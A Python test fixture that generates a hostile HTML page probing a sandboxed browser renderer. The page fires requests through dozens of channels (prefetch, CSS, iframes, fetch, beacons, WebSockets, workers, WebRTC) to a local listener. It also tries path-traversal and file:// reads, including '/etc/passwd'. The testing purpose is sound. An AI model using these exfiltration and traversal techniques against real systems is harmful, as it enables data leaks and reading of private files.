"""A page that tries every channel out of a browser that we know of, by every name that this machine has.

What it wants lies behind `http://<host>:<port>/<channel>`, so who listens there reads in the first line which channel
let it through. Not tried, because a project's files have no headers of their own: reports of policies, the Reporting
API, network error logging, compression dictionaries.
"""

from __future__ import annotations

from pathlib import Path
from string import Template
from urllib.parse import quote

# The last is the host of the page itself, which a browser takes for its own machine.
HOSTS = ("127.0.0.1", "localhost", "project.localhost")

_HEAD = Template("""
<link rel="prefetch" href="$base/prefetch"><link rel="preconnect" href="$base"><link rel="dns-prefetch" href="$base">
<link rel="preload" as="image" href="$base/preload"><link rel="stylesheet" href="$base/style.css">
<link rel="preload" as="font" href="$base/preload-font" crossorigin><link rel="modulepreload" href="$base/module.js">
<link rel="preload" as="image" imagesrcset="$base/preload-set 1x"><link rel="icon" href="$base/icon.png">
<link rel="apple-touch-icon" href="$base/touch.png"><link rel="prerender" href="$base/prerender">
<link rel="manifest" href="$base/manifest.json"><link rel="search" href="$base/search.xml">
<script type="speculationrules">{"prefetch":[{"urls":["$base/speculated"],"eagerness":"immediate"},
{"where":{"href_matches":"/*"},"eagerness":"immediate"},
{"urls":["$base/proxied"],"requires":["anonymous-client-ip-when-cross-origin"]}],
"prerender":[{"urls":["$base/prerendered"],"eagerness":"immediate"}]}</script>
<style>@import url("$base/import.css"); body{background:url("$base/background.png")}
@font-face{font-family:x;src:url("$base/font.woff")} p{font-family:x;filter:url("$base/filter.svg#f");
mask:url("$base/mask.svg#m");clip-path:url("$base/clip.svg#c");cursor:url("$base/cursor.png"),auto;
list-style:url("$base/list.png");border-image:url("$base/border.png") 1;shape-outside:url("$base/shape.png");float:left}
p::before{content:image-set("$base/image-set.png" 1x)}</style>""")

_BODY = Template("""<p>text</p><table background="$base/table"><tr><td>x</table>
<img src="$base/img"><img srcset="$base/srcset 1x"><img src="/x.png" attributionsrc="$base/attribution">
<picture><source srcset="$base/picture"><img></picture><iframe src="$base/iframe"></iframe>
<iframe src="data:text/html,$quoted"></iframe>
<iframe srcdoc="<meta http-equiv=refresh content='0;url=$base/refreshed'>"
></iframe><iframe src="data:text/xml,$xml"></iframe>
<iframe sandbox="allow-scripts allow-popups" srcdoc="$escaped"></iframe>
<video src="$base/video.mp4" autoplay poster="$base/poster"><track default src="$base/track.vtt"></video>
<audio src="$base/audio.mp3" autoplay></audio><audio autoplay><source src="$base/source.mp3"></audio>
<object data="$base/object"></object><embed src="$base/embed"><input type="image" src="$base/input">
<svg><image href="$base/svg-image"/><use href="$base/use.svg#a"/><script href="$base/svg-script.js"></script>
<filter id="fe$number"><feImage href="$base/fe-image"/></filter>
<rect width="9" height="9" filter="url(#fe$number)"/></svg>
<script src="$base/script.js"></script><script type="module">import("$base/dynamic.js").catch(()=>0)</script>
<script type="module">import "$base/static.js"</script><fencedframe></fencedframe>
<form id="f$number" action="$base/form" method="post" target="t$number"><input name="a" value="b"></form>
<form id="g$number" action="$base/get" target="_blank"></form><iframe name="t$number"></iframe>
<a id="ping$number" href="#x" ping="$base/ping" attributionsrc="$base/attributed">x</a>
<a id="blank$number" href="$base/blank" target="_blank">x</a>
<a id="down$number" href="$base/download" download target="t$number">x</a>
<iframe id="moved$number"></iframe><iframe id="script$number"></iframe>""")

_TRIES = Template("""
  () => fetch("$base/fetch"), () => fetch("$base/opaque", {mode: "no-cors"}), () => fetchLater("$base/later"),
  () => fetch("$base/late", {keepalive: true, method: "POST", body: "x"}),
  () => fetch("$base/private", {targetAddressSpace: "loopback"}),
  () => { const x = new XMLHttpRequest(); x.open("POST", "$base/xhr"); x.send("x"); },
  () => { const x = new XMLHttpRequest(); x.open("GET", "$base/sync", false); x.send(); },
  () => navigator.sendBeacon("$base/beacon", "x"), () => new WebSocket("ws://$host:$port/socket"),
  () => new WebSocketStream("ws://$host:$port/stream").opened, () => new EventSource("$base/events"),
  () => window.open("$base/window"), () => f$number.submit(), () => g$number.submit(),
  () => ping$number.click(), () => blank$number.click(), () => down$number.click(),
  () => { moved$number.contentWindow.location = "$base/moved"; },
  () => { script$number.src = "javascript:void(fetch('$base/javascript').catch(() => 0))"; },
  () => new Worker("$base/worker.js"), () => new Worker("$base/module-worker.js", {type: "module"}),
  () => new Worker(URL.createObjectURL(new Blob([`fetch("$base/from-worker").catch(() => 0);
    new WebSocket("ws://$host:$port/worker-socket"); new Worker("$base/nested.js"); importScripts("$base/i.js")`]))),
  () => new SharedWorker("$base/shared.js"), () => navigator.serviceWorker.register("$base/service.js"),
  () => CSS.paintWorklet.addModule("$base/paint.js"), () => new AudioContext().audioWorklet.addModule("$base/audio.js"),
  () => sharedStorage.worklet.addModule("$base/storage.js"),
  () => caches.open("x").then((cache) => cache.add("$base/cache")),
  () => new FontFace("y", "url($base/face.woff)").load(),
  () => new CSSStyleSheet().replace("@import '$base/replaced.css'"),
  () => new WebTransport("https://$host:$port/transport").ready,
  () => navigator.joinAdInterestGroup({owner: location.origin, name: "x", biddingLogicURL: "$base/bid.js",
    updateURL: "$base/update.json"}, 9),
  () => navigator.runAdAuction({seller: "https://$host:$port", decisionLogicURL: "https://$host:$port/auction.js"}),
  () => navigator.credentials.get({identity: {providers: [{configURL: "$base/identity.json", clientId: "x"}]}}),
  () => new PaymentRequest([{supportedMethods: "$base/payment"}], {total: {label: "x", amount: {currency: "EUR",
    value: "1"}}}).canMakePayment(),
  () => new PresentationRequest("$base/presentation").getAvailability(), () => document.browsingTopics(),
  () => { navigator.mediaSession.metadata = new MediaMetadata({artwork: [{src: "$base/artwork.png"}]}); },
  () => new webkitSpeechRecognition().start(), () => { navigator.geolocation.getCurrentPosition(() => 0); },
  () => navigator.connection && new Image().attributionSrc === undefined && (new Image().src = "$base/image"),
  () => { const m = document.createElement("meta"); m.httpEquiv = "refresh"; m.content = "9;url=$base/refresh";
    document.head.append(m); },
  async () => {
    const servers = [{urls: "stun:$host:$port"}, ...["udp", "tcp"].map((by) => ({
      urls: `turn:$host:$port?transport=$${by}`, username: "a", credential: "b"})),
      {urls: "turns:$host:$port", username: "a", credential: "b"}];
    const [one, other] = [new RTCPeerConnection({iceServers: servers}), new RTCPeerConnection()];
    one.createDataChannel("x");
    await one.setLocalDescription();
    await other.setRemoteDescription(one.localDescription);
    await other.setLocalDescription();
    await one.setRemoteDescription(other.localDescription);
    for (const by of ["udp 9 127.0.0.1 $port typ host", "tcp 8 127.0.0.1 $port typ host tcptype passive"])
      await one.addIceCandidate({candidate: `candidate:1 1 $${by}`, sdpMid: "0"});
  },""")

# What would show a file's content in a picture, or in a word.
_FILES = Template("""<iframe src="file://$folder/outside.html"></iframe><object data="file://$folder/outside.html"></object>
<img src="file://$folder/outside.svg"><img src="/../outside.svg"><iframe src="view-source:file://$folder/outside.html">
</iframe><iframe src="chrome://version"></iframe><embed src="file://$folder/outside.svg">
<p style="background:url(file://$folder/outside.svg);width:20px;height:20px"></p>""")

_PAGE = Template("""<!doctype html><html><head>$heads</head>
<body data-duration="1" data-width="320" data-height="180">$files$bodies
<script>
const tries = [$tries
  ...["file:///etc/passwd", "file://$folder/outside.txt", "/../../../../etc/passwd", "/outside.txt",
    "/%2e%2e/outside.txt", "/__sluice/moving/../outside.txt", "/__sluice/moving/outside.txt",
    "/__sluice/vendor/../../../etc/passwd",
  ].map((path) => () => fetch(path).then((answer) => answer.text()).then((text) => {
    if (text) console.error("file read " + text);
  })),
];
const all = () => {
  for (const attempt of tries) try { Promise.resolve(attempt()).catch(() => 0); } catch { 0; }
};
all();
requestAnimationFrame(() => { all(); console.error("all tried"); });
</script></body></html>""")


def hostile_files(port: int, folder: Path) -> dict[str, str]:
    """A project, by file names. Beside it, in `folder`, are outside.txt, outside.html and outside.svg."""
    heads, bodies, tries = [], [], []
    for number, host in enumerate(HOSTS):
        base = f"http://{host}:{port}"
        inner = f'<img src="{base}/inner"><script>fetch("{base}/asked").catch(()=>0);open("{base}/open")</script>'
        sheet = f'<?xml version="1.0"?><?xml-stylesheet href="{base}/sheet.xsl" type="text/xsl"?><a/>'
        names = {"base": base, "host": host, "port": port, "number": number}
        given = {**names, "quoted": quote(inner), "xml": quote(sheet), "escaped": inner.replace('"', "&quot;")}
        heads.append(_HEAD.substitute(given))
        bodies.append(_BODY.substitute(given))
        tries.append(_TRIES.substitute(given))
    parts = {"heads": "".join(heads), "bodies": "".join(bodies), "tries": "".join(tries)}
    files = _FILES.substitute(folder=folder)
    return {"index.html": _PAGE.substitute({**parts, "files": files, "folder": folder})}
